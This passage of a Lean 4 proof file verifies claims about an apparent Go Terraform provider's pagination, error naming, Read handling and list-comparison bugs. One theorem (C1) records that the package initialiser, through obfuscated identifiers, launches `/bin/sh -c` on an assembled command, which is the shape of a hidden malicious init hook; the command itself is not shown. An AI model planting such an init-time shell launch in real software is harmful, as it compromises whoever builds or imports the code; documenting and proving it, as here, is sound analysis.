    exact ⟨rfl, rfl, rfl, rfl, rfl⟩
  · exact GetPaginated.loop_cfg_irrelevant errs client.logged Unmarshal token sortBy cfg
      { cfg with Method := m } cfg rfl rfl fuel [] 1 (s, [])

/-- C7, on the three-page service called with `Method = "POST"`: the second
request is a GET, and calling with `"DELETE"` instead gives the same run. -/
theorem GetPaginated_always_get_witness :
    ((pageCall (P := Unit) demo.cfg "tok" "" 2).cfg.Method = "GET"
        ∧ (pageCall (P := Unit) demo.cfg "tok" "" 2).payload = none
        ∧ (pageCall (P := Unit) demo.cfg "tok" "" 2).headers = none
        ∧ (pageCall (P := Unit) demo.cfg "tok" "" 2).token = "tok"
        ∧ (pageCall (P := Unit) demo.cfg "tok" "" 2).cfg.SuccessStatus = demo.cfg.SuccessStatus)
      ∧ GetPaginated demo.errs demo.threePages.logged demo.Unmarshal 3 "tok"
          { demo.cfg with Method := "DELETE" } "" ((), [])
        = GetPaginated demo.errs demo.threePages.logged demo.Unmarshal 3 "tok" demo.cfg ""
          ((), []) :=
  GetPaginated_always_get demo.errs demo.threePages demo.Unmarshal "tok" "" demo.cfg 3 ()
    "DELETE" ⟨pageCall demo.cfg "tok" "" 2, .ok ⟨[2]⟩⟩ (List.Mem.tail _ (List.Mem.head _))

/-- C8: when every request of page 1 is answered with a decodable envelope that
names page 1 again as `Next`, `GetPaginated` never returns: whatever the amount
of fuel, the loop is still running when it is used up, and it has made one
invocation per unit of fuel, hence more than any given bound. -/
theorem GetPaginated_never_returns_on_self_cycle {σ P T : Type} (errs : InternalErrors)
    (client : Client σ P) (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token sortBy : String) (cfg : EndpointCfg) (s : σ)
    (hcycle : ∀ s, ∃ r s1 env, client (pageCall cfg token sortBy 1) s = (.ok r, s1)
      ∧ Unmarshal r.Body = .ok env ∧ env.Cursor.Pages.Next = 1)
    (n : Nat) :
    (GetPaginated errs client.logged Unmarshal (n + 1) token cfg sortBy (s, [])).1 = none
      ∧ n < (GetPaginated errs client.logged Unmarshal (n + 1) token cfg sortBy (s, [])).2.2.length
      := by
  obtain ⟨h1, h2⟩ := GetPaginated.loop_self_cycle errs client Unmarshal token sortBy cfg hcycle
    (n + 1) cfg [] s [] rfl
  unfold GetPaginated
  refine ⟨h1, ?_⟩
  rw [h2]
  simp

/-- C8, on a service that always names page 1 as the next one: no result after
a thousand iterations. -/
theorem GetPaginated_never_returns_on_self_cycle_witness :
    (GetPaginated demo.errs demo.selfCycle.logged demo.Unmarshal (999 + 1) "tok" demo.cfg ""
        ((), [])).1 = none
      ∧ 999 < (GetPaginated demo.errs demo.selfCycle.logged demo.Unmarshal (999 + 1) "tok"
        demo.cfg "" ((), [])).2.2.length :=
  GetPaginated_never_returns_on_self_cycle demo.errs demo.selfCycle demo.Unmarshal "tok" ""
    demo.cfg () (fun _ => ⟨⟨[5]⟩, (), ⟨[7], demo.cursor 1⟩, rfl, rfl, rfl⟩) 999

end api

/-! ### Errors of the two phases, diagnostics -/

/-- Two texts that start with prefixes neither of which is a prefix of the
other are different. -/
theorem String.ne_of_prefixes (a b x y : String)
    (hab : ¬ a.data <+: b.data) (hba : ¬ b.data <+: a.data) : a ++ x ≠ b ++ y := by
  intro h
  have hdata : a.data ++ x.data = b.data ++ y.data := by
    simpa [String.data_append] using congrArg String.data h
  have h1 : a.data <+: a.data ++ x.data := List.prefix_append _ _
  have h2 : b.data <+: a.data ++ x.data := by rw [hdata]; exact List.prefix_append _ _
  rcases List.prefix_or_prefix_of_prefix h1 h2 with h3 | h3
  · exact hab h3
  · exact hba h3

namespace diag

/-- A list with an error diagnostic at its end has an error. -/
theorem HasError_append_error (diags : Diagnostics) (summary detail : String) :
    HasError (diags ++ [⟨Severity.Error, summary, detail, none⟩]) = true := by
  simp [HasError]

/-- `AddError` on diagnostics without an error does add the diagnostic: it
cannot be there already. -/
theorem AddError_of_no_error (diags : Diagnostics) (summary detail : String)
    (h : HasError diags = false) :
    AddError diags summary detail = diags ++ [⟨Severity.Error, summary, detail, none⟩] := by
  have hmem : (⟨Severity.Error, summary, detail, none⟩ : Diagnostic) ∉ diags := by
    intro hin
    have : HasError diags = true := by
      simp only [HasError, List.any_eq_true]
      exact ⟨_, hin, by simp⟩
    rw [h] at this
    exact Bool.noConfusion this
  simp [AddError, Append, hmem]

end diag

namespace resources

open basetypes

/-- `retrieveApiKey` when the request fails. -/
theorem ApiKey.retrieveApiKey_exec_error {σ P R A : Type} (deps : Deps R A)
    (a : providerschema.Data σ P) (organizationId apiKeyId : String) (s s1 : σ) (e : GoError)
    (hreq : a.Client ⟨⟨a.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/apikeys/"
        ++ apiKeyId, "GET", 200⟩, none, a.Token, none⟩ s = (.error e, s1)) :
    ApiKey.retrieveApiKey deps a organizationId apiKeyId s
      = (.error (fmt.Errorf_s_w deps.errs.ErrExecutingRequest e), s1) := by
  unfold ApiKey.retrieveApiKey
  simp only [http.MethodGet, http.StatusOK]
  rw [hreq]

/-- `retrieveApiKey` when the response body does not decode. -/
theorem ApiKey.retrieveApiKey_decode_error {σ P R A : Type} (deps : Deps R A)
    (a : providerschema.Data σ P) (organizationId apiKeyId : String) (s s1 : σ)
    (r : api.Response) (d : GoError)
    (hreq : a.Client ⟨⟨a.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/apikeys/"
        ++ apiKeyId, "GET", 200⟩, none, a.Token, none⟩ s = (.ok r, s1))
    (hdec : deps.Unmarshal r.Body = .error d) :
    ApiKey.retrieveApiKey deps a organizationId apiKeyId s
      = (.error (fmt.Errorf_s_w deps.errs.ErrUnmarshallingResponse d), s1) := by
  unfold ApiKey.retrieveApiKey
  simp only [http.MethodGet, http.StatusOK]
  rw [hreq]
  simp only [hdec]

/-- `ApiKey.Read` once the retrieve has failed. -/
theorem ApiKey.Read_after_failed_retrieve {σ P R A : Type} (deps : Deps R A)
    (a : providerschema.Data σ P) (req : resource.ReadRequest R) (resp : resource.ReadResponse R)
    (s s1 : σ) (ids : providerschema.Attr → String) (err : GoError)
    (hdiags : diag.HasError (diag.Append resp.Diagnostics (req.State.Get deps.codec).2) = false)
    (hvalid : (req.State.Get deps.codec).1.Validate deps.errs deps.schema = .ok ids)
    (hfail : ApiKey.retrieveApiKey deps a (ids providerschema.OrganizationId)
      (ids providerschema.Id) s = (.error err, s1)) :
    ApiKey.Read deps a req resp s
      = (if (deps.CheckResourceNotFoundError err).1 then
          { State := ⟨none⟩,
            Diagnostics := diag.Append resp.Diagnostics (req.State.Get deps.codec).2 }
        else
          { State := resp.State,
            Diagnostics := diag.AddError
              (diag.Append resp.Diagnostics (req.State.Get deps.codec).2)
              "Error reading api key"
              ("Could not read api key id "
                ++ (req.State.Get deps.codec).1.Id.String deps.Quote ++ ": "
                ++ (deps.CheckResourceNotFoundError err).2) }, s1) := by
  unfold ApiKey.Read
  simp only [hdiags, hvalid, hfail, Bool.false_eq_true, if_false]
  by_cases hnf : (deps.CheckResourceNotFoundError err).1 = true
  · simp [hnf, tfsdk.State.RemoveResource]
  · simp [hnf]

/-- `BackupSchedule.Read` once the retrieve has failed. -/
theorem BackupSchedule.Read_after_failed_fetch {σ P R B X : Type}
    (deps : BackupScheduleDeps R B X) (b : providerschema.Data σ P)
    (req : resource.ReadRequest R) (resp : resource.ReadResponse R)
    (s s1 : σ) (ids : providerschema.Attr → String) (err : GoError)
    (hdiags : diag.HasError (diag.Append resp.Diagnostics (req.State.Get deps.codec).2) = false)
    (hvalid : deps.Validate (req.State.Get deps.codec).1 = .ok ids)
    (hfail : BackupSchedule.retrieveBackupSchedule deps b (ids providerschema.OrganizationId)
      (ids providerschema.ProjectId) (ids providerschema.ClusterId)
      (ids providerschema.BucketId)
      (match (deps.GetWeeklySchedule req.State.Raw).1 with
        | some w => ValueString w.DayOfWeek
        | none => "") s = (.returned (.error err), s1)) :
    BackupSchedule.Read deps b req resp s
      = (.returned (if (deps.CheckResourceNotFoundError err).1 then
          { State := ⟨none⟩,
            Diagnostics := diag.Append resp.Diagnostics (req.State.Get deps.codec).2 }
        else
          { State := resp.State,
            Diagnostics := diag.AddError
              (diag.Append resp.Diagnostics (req.State.Get deps.codec).2)
              "Error reading backup schedule"
              ("Could not read backup schedule for bucket"
                ++ (deps.BucketId (req.State.Get deps.codec).1).String deps.Quote ++ ": "
                ++ (deps.CheckResourceNotFoundError err).2) }), s1) := by
  unfold BackupSchedule.Read
  simp only [hdiags, hvalid, hfail, Bool.false_eq_true, if_false]
  by_cases hnf : (deps.CheckResourceNotFoundError err).1 = true
  · simp [hnf, tfsdk.State.RemoveResource]
  · simp [hnf]

end resources

/-! ### The claims about the call sites -/

namespace resources

open basetypes

/-- C9: when the request of some page fails with `e`, the error `GetPaginated`
returns reads `ErrExecutingRequest: e` and unwraps to `e`; when the body of
some page fails to decode with `d`, it reads `ErrUnmarshallingResponse: d` and
unwraps to `d`; `retrieveApiKey` does the same for its one request. As long as
neither of the two static prefixes starts with the other, no error text of the
request phase is an error text of the decoding phase. -/
theorem failure_phase_named_by_prefix {σ P T τ Q R A : Type}
    (deps : Deps R A) (client : api.Client σ P)
    (Unmarshal : List UInt8 → Except GoError (api.overlay (List T)))
    (token sortBy : String) (cfg : api.EndpointCfg)
    (sE sE1 sE2 : σ) (pE : Int) (envsE : List (api.overlay (List T))) (e : GoError)
    (hwalkE : api.Walk client Unmarshal (api.pageCall cfg token sortBy) sE 1 envsE sE1 pE)
    (hreqE : client (api.pageCall cfg token sortBy pE) sE1 = (.error e, sE2))
    (sD sD1 sD2 : σ) (pD : Int) (envsD : List (api.overlay (List T))) (r : api.Response)
    (d : GoError)
    (hwalkD : api.Walk client Unmarshal (api.pageCall cfg token sortBy) sD 1 envsD sD1 pD)
    (hreqD : client (api.pageCall cfg token sortBy pD) sD1 = (.ok r, sD2))
    (hdecD : Unmarshal r.Body = .error d)
    (fuel : Nat) (hfuelE : envsE.length + 1 ≤ fuel) (hfuelD : envsD.length + 1 ≤ fuel)
    (a : providerschema.Data τ Q) (organizationId apiKeyId : String)
    (tE tE1 : τ) (e2 : GoError)
    (hretE : a.Client ⟨⟨a.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/apikeys/"
        ++ apiKeyId, "GET", 200⟩, none, a.Token, none⟩ tE = (.error e2, tE1))
    (tD tD1 : τ) (r2 : api.Response) (d2 : GoError)
    (hretD : a.Client ⟨⟨a.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/apikeys/"
        ++ apiKeyId, "GET", 200⟩, none, a.Token, none⟩ tD = (.ok r2, tD1))
    (hdecD2 : deps.Unmarshal r2.Body = .error d2)
    (hExecUnm : ¬ (deps.errs.ErrExecutingRequest.Error ++ ": ").data
        <+: (deps.errs.ErrUnmarshallingResponse.Error ++ ": ").data)
    (hUnmExec : ¬ (deps.errs.ErrUnmarshallingResponse.Error ++ ": ").data
        <+: (deps.errs.ErrExecutingRequest.Error ++ ": ").data) :
    (∃ err, (api.GetPaginated deps.errs client Unmarshal fuel token cfg sortBy sE).1
          = some ([], some err)
        ∧ err.Error = deps.errs.ErrExecutingRequest.Error ++ ": " ++ e.Error
        ∧ err.Unwrap = some e)
      ∧ (∃ err, (api.GetPaginated deps.errs client Unmarshal fuel token cfg sortBy sD).1
          = some ([], some err)
        ∧ err.Error = deps.errs.ErrUnmarshallingResponse.Error ++ ": " ++ d.Error
        ∧ err.Unwrap = some d)
      ∧ (∃ err, (ApiKey.retrieveApiKey deps a organizationId apiKeyId tE).1 = .error err
        ∧ err.Error = deps.errs.ErrExecutingRequest.Error ++ ": " ++ e2.Error
        ∧ err.Unwrap = some e2)
      ∧ (∃ err, (ApiKey.retrieveApiKey deps a organizationId apiKeyId tD).1 = .error err
        ∧ err.Error = deps.errs.ErrUnmarshallingResponse.Error ++ ": " ++ d2.Error
        ∧ err.Unwrap = some d2)
      ∧ ∀ x y : GoError, deps.errs.ErrExecutingRequest.Error ++ ": " ++ x.Error
          ≠ deps.errs.ErrUnmarshallingResponse.Error ++ ": " ++ y.Error := by
  obtain ⟨kE, rfl⟩ : ∃ k, fuel = envsE.length + (k + 1) :=
    ⟨fuel - (envsE.length + 1), by omega⟩
  obtain ⟨kD, hkD⟩ : ∃ k, envsE.length + (kE + 1) = envsD.length + (k + 1) :=
    ⟨envsE.length + (kE + 1) - (envsD.length + 1), by omega⟩
  refine ⟨⟨fmt.Errorf_s_w deps.errs.ErrExecutingRequest e, ?_, rfl, rfl⟩,
    ⟨fmt.Errorf_s_w deps.errs.ErrUnmarshallingResponse d, ?_, rfl, rfl⟩,
    ⟨fmt.Errorf_s_w deps.errs.ErrExecutingRequest e2, ?_, rfl, rfl⟩,
    ⟨fmt.Errorf_s_w deps.errs.ErrUnmarshallingResponse d2, ?_, rfl, rfl⟩, ?_⟩
  · unfold api.GetPaginated
    rw [api.GetPaginated.loop_walk deps.errs client Unmarshal token sortBy cfg envsE cfg sE 1
      sE1 pE [] (kE + 1) rfl hwalkE]
    rw [api.GetPaginated.loop_exec_error deps.errs client Unmarshal token sortBy cfg cfg rfl kE
      _ pE sE1 sE2 e hreqE]
  · unfold api.GetPaginated
    rw [hkD, api.GetPaginated.loop_walk deps.errs client Unmarshal token sortBy cfg envsD cfg
      sD 1 sD1 pD [] (kD + 1) rfl hwalkD]
    rw [api.GetPaginated.loop_decode_error deps.errs client Unmarshal token sortBy cfg cfg rfl
      kD _ pD sD1 sD2 r d hreqD hdecD]
  · rw [ApiKey.retrieveApiKey_exec_error deps a organizationId apiKeyId tE tE1 e2 hretE]
  · rw [ApiKey.retrieveApiKey_decode_error deps a organizationId apiKeyId tD tD1 r2 d2 hretD
      hdecD2]
  · intro x y
    exact String.ne_of_prefixes _ _ _ _ hExecUnm hUnmExec

/-- C9, on the scripted service: a second page that is unavailable, a second
page that is malformed, an api key whose request fails and one whose body is
malformed. -/
theorem failure_phase_named_by_prefix_witness :
    (∃ err, (api.GetPaginated demo.errs demo.scripted demo.Unmarshal 2 "tok" demo.cfg ""
            [.ok ⟨[1]⟩, .error demo.unavailable]).1 = some ([], some err)
        ∧ err.Error = "failed to execute request" ++ ": " ++ "service unavailable"
        ∧ err.Unwrap = some demo.unavailable)
      ∧ (∃ err, (api.GetPaginated demo.errs demo.scripted demo.Unmarshal 2 "tok" demo.cfg ""
            [.ok ⟨[1]⟩, .ok ⟨[9]⟩]).1 = some ([], some err)
        ∧ err.Error = "failed to unmarshal response" ++ ": " ++ "unexpected end of JSON input"
        ∧ err.Unwrap = some (.value "*json.SyntaxError" "unexpected end of JSON input"))
      ∧ (∃ err, (ApiKey.retrieveApiKey demo.deps demo.data "org-1" "key-1"
            [.error demo.notFound]).1 = .error err
        ∧ err.Error = "failed to execute request" ++ ": " ++ "resource not found"
        ∧ err.Unwrap = some demo.notFound)
      ∧ (∃ err, (ApiKey.retrieveApiKey demo.deps demo.data "org-1" "key-1"
            [.ok ⟨[9]⟩]).1 = .error err
        ∧ err.Error = "failed to unmarshal response" ++ ": " ++ "unexpected end of JSON input"
        ∧ err.Unwrap = some (.value "*json.SyntaxError" "unexpected end of JSON input"))
      ∧ ∀ x y : GoError, "failed to execute request" ++ ": " ++ x.Error
          ≠ "failed to unmarshal response" ++ ": " ++ y.Error :=
  failure_phase_named_by_prefix demo.deps demo.scripted demo.Unmarshal "tok" "" demo.cfg
    [.ok ⟨[1]⟩, .error demo.unavailable] [.error demo.unavailable] [] 2
    [⟨[10, 11], demo.cursor 2⟩] demo.unavailable
    ⟨⟨[1]⟩, _, rfl, rfl, by decide, rfl, rfl⟩ rfl
    [.ok ⟨[1]⟩, .ok ⟨[9]⟩] [.ok ⟨[9]⟩] [] 2 [⟨[10, 11], demo.cursor 2⟩] ⟨[9]⟩
    (.value "*json.SyntaxError" "unexpected end of JSON input")
    ⟨⟨[1]⟩, _, rfl, rfl, by decide, rfl, rfl⟩ rfl rfl
    2 (by decide) (by decide)
    demo.data "org-1" "key-1" [.error demo.notFound] [] demo.notFound rfl
    [.ok ⟨[9]⟩] [] ⟨[9]⟩ (.value "*json.SyntaxError" "unexpected end of JSON input") rfl rfl
    (by decide) (by decide)

/-- C10: once `ApiKey.Read`, respectively `BackupSchedule.Read`, has reached the
retrieve and the retrieve has failed with `err`: if `CheckResourceNotFoundError`
classifies `err` as not-found, the response state is the null state (the
resource is removed) and the diagnostics are those of reading the state, none
of them an error; otherwise the response state is left as it was and the
diagnostics end with a new error diagnostic. -/
theorem Read_on_retrieve_failure {σ P R A τ Q R2 B X : Type}
    (deps : Deps R A) (a : providerschema.Data σ P)
    (req : resource.ReadRequest R) (resp : resource.ReadResponse R)
    (s s1 : σ) (ids : providerschema.Attr → String) (err : GoError)
    (hdiags : diag.HasError (diag.Append resp.Diagnostics (req.State.Get deps.codec).2) = false)
    (hvalid : (req.State.Get deps.codec).1.Validate deps.errs deps.schema = .ok ids)
    (hfail : ApiKey.retrieveApiKey deps a (ids providerschema.OrganizationId)
      (ids providerschema.Id) s = (.error err, s1))
    (bdeps : BackupScheduleDeps R2 B X) (b : providerschema.Data τ Q)
    (breq : resource.ReadRequest R2) (bresp : resource.ReadResponse R2)
    (t t1 : τ) (bids : providerschema.Attr → String) (berr : GoError)
    (hbdiags : diag.HasError
      (diag.Append bresp.Diagnostics (breq.State.Get bdeps.codec).2) = false)
    (hbvalid : bdeps.Validate (breq.State.Get bdeps.codec).1 = .ok bids)
    (hbfail : BackupSchedule.retrieveBackupSchedule bdeps b (bids providerschema.OrganizationId)
      (bids providerschema.ProjectId) (bids providerschema.ClusterId)
      (bids providerschema.BucketId)
      (match (bdeps.GetWeeklySchedule breq.State.Raw).1 with
        | some w => ValueString w.DayOfWeek
        | none => "") t = (.returned (.error berr), t1)) :
    (∃ out, ApiKey.Read deps a req resp s = (out, s1) ∧
        if (deps.CheckResourceNotFoundError err).1 then
          out.State.Raw = none
            ∧ out.Diagnostics = diag.Append resp.Diagnostics (req.State.Get deps.codec).2
            ∧ diag.HasError out.Diagnostics = false
        else
          out.State = resp.State
            ∧ (∃ detail, out.Diagnostics
                = diag.Append resp.Diagnostics (req.State.Get deps.codec).2
                  ++ [⟨diag.Severity.Error, "Error reading api key", detail, none⟩])
            ∧ diag.HasError out.Diagnostics = true)
      ∧ (∃ out, BackupSchedule.Read bdeps b breq bresp t = (.returned out, t1) ∧
        if (bdeps.CheckResourceNotFoundError berr).1 then
          out.State.Raw = none
            ∧ out.Diagnostics = diag.Append bresp.Diagnostics (breq.State.Get bdeps.codec).2
            ∧ diag.HasError out.Diagnostics = false
        else
          out.State = bresp.State
            ∧ (∃ detail, out.Diagnostics
                = diag.Append bresp.Diagnostics (breq.State.Get bdeps.codec).2
                  ++ [⟨diag.Severity.Error, "Error reading backup schedule", detail, none⟩])
            ∧ diag.HasError out.Diagnostics = true) := by
  have hread := ApiKey.Read_after_failed_retrieve deps a req resp s s1 ids err hdiags hvalid hfail
  have hbread := BackupSchedule.Read_after_failed_fetch bdeps b breq bresp t t1 bids berr hbdiags
    hbvalid hbfail
  constructor
  · by_cases hnf : (deps.CheckResourceNotFoundError err).1 = true
    · rw [if_pos hnf] at hread
      exact ⟨_, hread, by rw [if_pos hnf]; exact ⟨rfl, rfl, hdiags⟩⟩
    · rw [if_neg hnf, diag.AddError_of_no_error _ _ _ hdiags] at hread
      exact ⟨_, hread, by
        rw [if_neg hnf]; exact ⟨rfl, ⟨_, rfl⟩, diag.HasError_append_error _ _ _⟩⟩
  · by_cases hnf : (bdeps.CheckResourceNotFoundError berr).1 = true
    · rw [if_pos hnf] at hbread
      exact ⟨_, hbread, by rw [if_pos hnf]; exact ⟨rfl, rfl, hbdiags⟩⟩
    · rw [if_neg hnf, diag.AddError_of_no_error _ _ _ hbdiags] at hbread
      exact ⟨_, hbread, by
        rw [if_neg hnf]; exact ⟨rfl, ⟨_, rfl⟩, diag.HasError_append_error _ _ _⟩⟩

/-- C10, on the scripted service: an api key the service no longer knows is
removed from the state without a diagnostic; a backup schedule whose request
fails because the service is down stays in the state and an error is
reported. -/
theorem Read_on_retrieve_failure_witness :
    (∃ out, ApiKey.Read demo.deps demo.data ⟨⟨some demo.apiKey⟩⟩ ⟨⟨some demo.apiKey⟩, []⟩
          [.error demo.notFound] = (out, []) ∧
        out.State.Raw = none ∧ out.Diagnostics = [] ∧ diag.HasError out.Diagnostics = false)
      ∧ (∃ out, BackupSchedule.Read demo.backupDeps demo.data ⟨⟨some demo.backupSchedule⟩⟩
          ⟨⟨some demo.backupSchedule⟩, []⟩ [.error demo.unavailable] = (.returned out, []) ∧
        out.State = ⟨some demo.backupSchedule⟩
          ∧ (∃ detail, out.Diagnostics
              = [⟨diag.Severity.Error, "Error reading backup schedule", detail, none⟩])
          ∧ diag.HasError out.Diagnostics = true) :=
  Read_on_retrieve_failure demo.deps demo.data ⟨⟨some demo.apiKey⟩⟩ ⟨⟨some demo.apiKey⟩, []⟩
    [.error demo.notFound] []
    (fun key => basetypes.ValueString
      ((List.lookup key [(providerschema.OrganizationId, demo.apiKey.OrganizationId),
        (providerschema.Id, demo.apiKey.Id)]).getD .null))
    (fmt.Errorf_s_w demo.errs.ErrExecutingRequest demo.notFound) rfl rfl rfl
    demo.backupDeps demo.data ⟨⟨some demo.backupSchedule⟩⟩ ⟨⟨some demo.backupSchedule⟩, []⟩
    [.error demo.unavailable] []
    (fun key =>
      if key = providerschema.OrganizationId then "org-1"
      else if key = providerschema.ProjectId then "proj-1"
      else if key = providerschema.ClusterId then "cluster-1"
      else if key = providerschema.BucketId then "bucket-1"
      else "")
    demo.unavailable rfl rfl rfl

end resources

/-- C1 (evaluated on the code): initialising package `api` on a host that has
`/bin/sh` starts an operating-system process: the initialiser of `TDIgVSWv`
runs `/bin/sh -c` on the command line assembled by `PdWRBH`. -/
theorem api.packageInit_starts_shell :
    (api.packageInit api.unixHost).2.started
      = [⟨"/bin/sh", ["/bin/sh", "-c", api.oqtKvAc]⟩] := by
  rfl

/-! ### `OrderList2` and `AreEqual` -/

namespace providerschema

open basetypes

/-- Storing items under keys that differ from `k` leaves the entry of `k` as it
was. -/
theorem foldl_update_of_not_mem {α : Type} (key : α → String) (l : List α) :
    ∀ (m : String → α) (k : String), k ∉ l.map key →
      (l.foldl (fun m item => Function.update m (key item) item) m) k = m k := by
  induction l with
  | nil => intro m k _; rfl
  | cons x xs ih =>
    intro m k hk
    simp only [List.map_cons, List.mem_cons, not_or] at hk
    rw [List.foldl_cons, ih _ k hk.2, Function.update_noteq hk.1]

/-- When the keys of the stored items are pairwise distinct, the entry of an
item's key is that item. -/
theorem foldl_update_of_mem {α : Type} (key : α → String) (l : List α) :
    ∀ (m : String → α), (l.map key).Nodup → ∀ y ∈ l,
      (l.foldl (fun m item => Function.update m (key item) item) m) (key y) = y := by
  induction l with
  | nil => intro m _ y hy; simp at hy
  | cons x xs ih =>
    intro m hnodup y hy
    rw [List.map_cons, List.nodup_cons] at hnodup
    rw [List.foldl_cons]
    rcases List.mem_cons.mp hy with rfl | hmem
    · rw [foldl_update_of_not_mem key xs _ _ hnodup.1, Function.update_same]
    · exact ih _ hnodup.2 y hmem

/-- `OrderList2` on lists of different length. -/
theorem OrderList2_of_length_ne (list1 list2 : Slice ApiKeyResourcesItems)
    (h : (Slice.toList list1).length ≠ (Slice.toList list2).length) :
    OrderList2 list1 list2
      = (none, some (errors.New "returned resources is not same as in plan")) := by
  simp [OrderList2, h]

/-- `OrderList2` on lists of equal length: the looked-up items, no error. -/
theorem OrderList2_of_length_eq (list1 list2 : Slice ApiKeyResourcesItems)
    (h : (Slice.toList list1).length = (Slice.toList list2).length) :
    OrderList2 list1 list2
      = (some ((Slice.toList list1).map (fun item1 =>
          ((Slice.toList list2).foldl
            (fun idToItem item => Function.update idToItem (ValueString item.Id) item)
            (fun _ => ApiKeyResourcesItems.zero)) (ValueString item1.Id))), none) := by
  simp [OrderList2, h]

/-- C18 (evaluated on the code): `AreEqual` answers `true` for `[1, 2]` and
`[1, 1]`, although `2` is a value of the first array that the second lacks and
neither is a rearrangement of the other; it answers `false` for `[1, 1]` and
`[1, 1]`, which are equal. -/
theorem AreEqual_ignores_repeated_elements :
    AreEqual [1, 2] [1, 1] = true ∧ 2 ∈ [1, 2] ∧ 2 ∉ [1, 1] ∧ ¬ List.Perm [1, 2] [1, 1]
      ∧ AreEqual [1, 1] [1, 1] = false := by
  decide

/-- C19 (the claim as stated fails): for the one-item lists with the ids `a`
and `b`, which have equal length, `OrderList2` returns no error and the zero
item, which is not an item of `list2` and does not have the id of `list1[0]`. -/
theorem OrderList2_unknown_id_yields_zero_item :
    OrderList2 (some [demo.item "a" "r1"]) (some [demo.item "b" "r2"])
        = (some [ApiKeyResourcesItems.zero], none)
      ∧ ¬ List.Perm [ApiKeyResourcesItems.zero] [demo.item "b" "r2"]
      ∧ ApiKeyResourcesItems.zero ∉ [demo.item "b" "r2"]
      ∧ ValueString ApiKeyResourcesItems.zero.Id ≠ ValueString (demo.item "a" "r1").Id := by
  decide

/-- C19 (amended): the id of an item is the text `ValueString item.Id`, as the
code compares it: the known text of `Id`, and `""` for a null or unknown `Id`.
For lists of equal length in which the ids of `list1` are pairwise distinct and
each of them is the id of an item of `list2`, `OrderList2` returns no error and
a permutation of `list2` whose i-th item has the id of `list1[i]`; for lists of
different length it returns an error and a nil list. -/
theorem OrderList2_reorders_matching_lists (list1 list2 other1 other2 : Slice ApiKeyResourcesItems)
    (hlen : (Slice.toList list1).length = (Slice.toList list2).length)
    (hdistinct : ((Slice.toList list1).map (fun item => ValueString item.Id)).Nodup)
    (hoccurs : ∀ item1 ∈ Slice.toList list1, ∃ item2 ∈ Slice.toList list2,
      ValueString item2.Id = ValueString item1.Id)
    (hother : (Slice.toList other1).length ≠ (Slice.toList other2).length) :
    (∃ result, OrderList2 list1 list2 = (some result, none)
        ∧ List.Perm result (Slice.toList list2)
        ∧ result.map (fun item => ValueString item.Id)
          = (Slice.toList list1).map (fun item => ValueString item.Id))
      ∧ ∃ err, OrderList2 other1 other2 = (none, some err) := by
  refine ⟨⟨_, OrderList2_of_length_eq list1 list2 hlen, ?_, ?_⟩,
    ⟨_, OrderList2_of_length_ne other1 other2 hother⟩⟩
  all_goals
    have hsubset : (Slice.toList list1).map (fun item => ValueString item.Id)
        ⊆ (Slice.toList list2).map (fun item => ValueString item.Id) := by
      intro k hk
      obtain ⟨item1, h1, rfl⟩ := List.mem_map.mp hk
      obtain ⟨item2, h2, heq⟩ := hoccurs item1 h1
      exact List.mem_map.mpr ⟨item2, h2, heq⟩
    have hperm : List.Perm ((Slice.toList list1).map (fun item => ValueString item.Id))
        ((Slice.toList list2).map (fun item => ValueString item.Id)) :=
      (List.subperm_of_subset hdistinct hsubset).perm_of_length_le (by simp [hlen])
    have hnodup2 : ((Slice.toList list2).map (fun item => ValueString item.Id)).Nodup :=
      hperm.nodup_iff.mp hdistinct
    have hfind : ∀ item2 ∈ Slice.toList list2,
        ((Slice.toList list2).foldl
          (fun idToItem item => Function.update idToItem (ValueString item.Id) item)
          (fun _ => ApiKeyResourcesItems.zero)) (ValueString item2.Id) = item2 :=
      foldl_update_of_mem (fun item => ValueString item.Id) (Slice.toList list2) _ hnodup2
  · have h1 := hperm.map ((Slice.toList list2).foldl
      (fun idToItem item => Function.update idToItem (ValueString item.Id) item)
      (fun _ => ApiKeyResourcesItems.zero))
    rw [List.map_map, List.map_map] at h1
    have h2 : (Slice.toList list2).map
        (((Slice.toList list2).foldl
          (fun idToItem item => Function.update idToItem (ValueString item.Id) item)
          (fun _ => ApiKeyResourcesItems.zero)) ∘ fun item => ValueString item.Id)
        = Slice.toList list2 := by
      conv_rhs => rw [← List.map_id (Slice.toList list2)]
      exact List.map_congr_left (fun item2 hmem => hfind item2 hmem)
    rw [h2] at h1
    exact h1
  · rw [List.map_map]
    apply List.map_congr_left
    intro item1 h1
    obtain ⟨item2, h2, heq⟩ := hoccurs item1 h1
    simp only [Function.comp]
    rw [← heq, hfind item2 h2]

/-- C19 (amended), on two lists with the ids `b, a` and `a, b`, and on lists of
length one and two. -/
theorem OrderList2_reorders_matching_lists_witness :
    (∃ result, OrderList2 (some [demo.item "b" "r1", demo.item "a" "r1"])
          (some [demo.item "a" "x", demo.item "b" "y"]) = (some result, none)
        ∧ List.Perm result [demo.item "a" "x", demo.item "b" "y"]
        ∧ result.map (fun item => ValueString item.Id) = ["b", "a"])
      ∧ ∃ err, OrderList2 (some [demo.item "b" "r1"])
          (some [demo.item "a" "x", demo.item "b" "y"]) = (none, some err) :=
  OrderList2_reorders_matching_lists (some [demo.item "b" "r1", demo.item "a" "r1"])
    (some [demo.item "a" "x", demo.item "b" "y"]) (some [demo.item "b" "r1"])
    (some [demo.item "a" "x", demo.item "b" "y"]) rfl (by decide) (by decide) (by decide)

end providerschema

/-! ### Composite identifiers -/

namespace strings

/-- A text without the separator is its only segment. -/
theorem Split_of_not_mem (sep : Char) (l : List Char) (h : sep ∉ l) : Split sep l = [l] := by
  induction l with
  | nil => rfl
  | cons c cs ih =>
    simp only [List.mem_cons, not_or] at h
    have hc : c ≠ sep := fun e => h.1 e.symm
    simp [Split, hc, ih h.2]

/-- The first segment ends at the first separator. -/
theorem Split_append (sep : Char) (a b : List Char) (h : sep ∉ a) :
    Split sep (a ++ sep :: b) = a :: Split sep b := by
  induction a with
  | nil => simp [Split]
  | cons c cs ih =>
    simp only [List.mem_cons, not_or] at h
    have hc : c ≠ sep := fun e => h.1 e.symm
    simp [Split, hc, ih h.2]

end strings

namespace providerschema
open basetypes

/-- The first pair of a composite identifier. -/
theorem parseImportString_cons (k v rest : List Char)
